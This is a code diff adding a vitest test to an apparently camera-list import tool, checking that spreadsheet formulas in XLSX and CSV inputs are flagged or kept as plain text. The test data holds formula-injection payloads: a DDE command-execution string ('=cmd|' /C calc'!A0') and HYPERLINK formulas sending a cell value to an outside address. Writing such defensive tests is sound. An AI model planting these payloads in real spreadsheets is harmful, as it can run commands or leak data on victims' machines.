@@ -5,6 +5,7 @@ import { Readable } from 'node:stream';
 import { writeTable } from '@ancam/sheets';
 import { expect, test } from 'vitest';
 import { values } from '../scanning.ts';
+import { textRow, workbook, zipOf } from '../../../sheets/test/files.ts';
 import { outcomes, readContent, readPath } from './reading.ts';
 
 const DVR =
@@ -112,4 +113,21 @@ test('a list of cameras as XLSX: title above the header, faults by their cell, f
   expect(hosts.get('10.2.0.12')?.identity.maker).toBe('dahua');
   expect(faults).toHaveLength(2);
   expect(faults.map(({ place }) => place).every((place) => /^[BC]\d+$/.test(place))).toBe(true);
+});
+
+test('formulas in a list of cameras are data nowhere: a computed cell is a fault, a text that looks like one stays text', async () => {
+  const cells = [
+    '<c t="inlineStr"><is><t>10.2.0.20</t></is></c>',
+    '<c t="str"><f>HYPERLINK("http://192.0.2.1/"&amp;A2,"DS-1")</f><v>DS-1</v></c>',
+    '<c t="inlineStr"><is><t>=cmd|\' /C calc\'!A0</t></is></c>',
+  ].join('');
+  const path = await zipOf(workbook(textRow(1, ['Địa chỉ IP', 'Model', 'Firmware']) + `<row r="2">${cells}</row>`));
+  const { hosts, faults } = await readPath(path, 'danh-sach.xlsx');
+  expect(faults.map(({ place, fault }) => [place, fault.en])).toEqual([['B2', 'The cell is a formula, not data.']]);
+  expect(hosts.get('10.2.0.20')?.identity.model).toBeUndefined();
+  expect(values(hosts.get('10.2.0.20'), 'label.firmware')).toEqual(["=cmd|' /C calc'!A0"]);
+  const csv = await readContent(`IP;Model;Firmware\n10.2.0.21;"=HYPERLINK(""http://192.0.2.1"")";'@SUM(A1)\n`);
+  expect(values(csv.hosts.get('10.2.0.21'), 'label.model')).toEqual(['=HYPERLINK("http://192.0.2.1")']);
+  // the apostrophe is that of an export, which keeps a text from being run
+  expect(values(csv.hosts.get('10.2.0.21'), 'label.firmware')).toEqual(['@SUM(A1)']);
 });
